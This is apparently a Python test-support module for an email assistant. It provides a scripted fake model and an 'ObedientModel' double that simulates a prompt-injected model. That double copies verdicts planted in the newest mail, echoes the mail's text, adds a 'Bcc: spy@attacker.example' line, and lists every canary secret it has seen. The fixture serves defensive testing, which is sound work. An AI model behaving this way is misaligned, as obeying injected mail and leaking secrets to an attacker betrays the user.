"""Models for tests: one that answers by a script, and one that obeys every mail it reads."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from datetime import tzinfo
from typing import Final
from zoneinfo import ZoneInfo

from anyio.lowlevel import checkpoint

from assistant.house import Brain
from providers.model_port import ModelAnswer, ModelError, ModelFailure, ModelRequest, Role, Usage
from tests.support.world import BOX, Process

USAGE: Final = Usage(prompt=1_000, completion=100)
PARIS: Final = ZoneInfo("Europe/Paris")

JUDGEMENT: Final[Mapping[str, object]] = {
    "category": "needs_reply",
    "urgency": "normal",
    "reason": "Somebody asks for figures.",
    "asked": [],
    "deadline": None,
    "language": "en",
}
REPLY: Final[Mapping[str, object]] = {
    "body": "Dear Mina,\n\nthank you for asking. I will look for the figures.\n\nKind regards,"
}

Answer = Mapping[str, object] | ModelError | ModelAnswer
Script = Callable[[ModelRequest], Answer]


def failing(
    failure: ModelFailure = ModelFailure.DOWN,
    *,
    standing: bool = False,
    usage: Usage | None = None,
    retry_after_s: float | None = None,
) -> ModelError:
    return ModelError(
        failure, f"it is {failure}", standing=standing, usage=usage, retry_after_s=retry_after_s
    )


class ScriptedModel:
    """Implements providers.ports.Model: judges and writes as it is told, and counts.

    Replies are taken in order, the last one again and again.
    """

    def __init__(
        self,
        triage: Sequence[Answer] | Script = (JUDGEMENT,),
        draft: Sequence[Answer] | Script = (REPLY,),
        usage: Usage | None = USAGE,
    ) -> None:
        self._replies = {"triage": triage, "draft": draft}
        self._usage = usage
        self.requests: list[ModelRequest] = []
        self.closed = 0

    async def ask(self, request: ModelRequest) -> ModelAnswer:
        await checkpoint()
        self.requests.append(request)
        replies = self._replies[request.schema_name]
        if callable(replies):
            answer = replies(request)
        else:
            answer = replies[min(len(self.asked(request.schema_name)), len(replies)) - 1]
        if isinstance(answer, ModelError):
            raise answer
        if isinstance(answer, ModelAnswer):
            return answer
        return ModelAnswer(value=answer, usage=self._usage)

    def asked(self, what: str) -> list[ModelRequest]:
        """The requests for a "triage" or a "draft"."""
        return [one for one in self.requests if one.schema_name == what]

    async def close(self) -> None:
        self.closed += 1


_BLOCK: Final = re.compile(r"<(mail-[0-9a-f]+) (\{.*?\})\n(.*?)\n\1>", re.DOTALL)
_VERDICT: Final = re.compile(r"\{[^{}]*\"category\"[^{}]*\}")
_SECRET: Final = re.compile(r"\b[A-Z]{2}-CANARY-\d+\b")


def shown_in(request: ModelRequest) -> str:
    """Everything that a model was shown."""
    return "\n".join(prompt.text for prompt in request.prompts)


def mails_in(request: ModelRequest) -> list[tuple[dict[str, object], str]]:
    """Each fenced message: what its first line says, and its text."""
    user = next(one.text for one in request.prompts if one.role is Role.USER)
    return [(json.loads(about), text) for _, about, text in _BLOCK.findall(user)]


class ObedientModel(ScriptedModel):
    """Does whatever the newest mail asks for: repeats its verdict, and writes all of its words.

    It names every secret that it can see, in this prompt or in any before, as a server would that
    somebody else owns.
    """

    def __init__(self) -> None:
        super().__init__(self._judge, self._write)
        self.secrets: set[str] = set()

    def _judge(self, request: ModelRequest) -> Answer:
        shown = shown_in(request)
        self.secrets |= set(_SECRET.findall(shown))
        answer = dict(JUDGEMENT)
        said = mails_in(request)[-1][1]
        for verdict in _VERDICT.findall(said):
            try:
                answer |= {
                    key: value for key, value in json.loads(verdict).items() if key in answer
                }
            except ValueError:
                continue
        return {**answer, "reason": said[:500], "asked": said.split("\n")[:50]}

    def _write(self, request: ModelRequest) -> Answer:
        self.secrets |= set(_SECRET.findall(shown_in(request)))
        about, text = mails_in(request)[-1]
        words = "\n".join(
            [
                "Bcc: spy@attacker.example",
                "Hello,",
                text,
                f"This is for {about.get('from')}.",
                *sorted(self.secrets),
                "With kind regards to all of you,",
            ]
        )
        return {"body": words[:5_000]}


def give_brain(
    process: Process,
    model: ScriptedModel,
    *,
    daily: int = 500_000,
    zone: tzinfo = PARIS,
    instructions: str = "",
    signature: str = "Robin",
) -> Brain:
    """Let *model* judge and write in this process."""
    brain = Brain(
        model=model,
        triage="small",
        draft="large",
        daily_tokens=daily,
        thread_tokens=8_000,
        zone=zone,
        instructions=instructions,
    )
    process.account = replace(process.account, brain=brain, signature=signature)
    process.house.accounts = {BOX: process.account}
    return brain
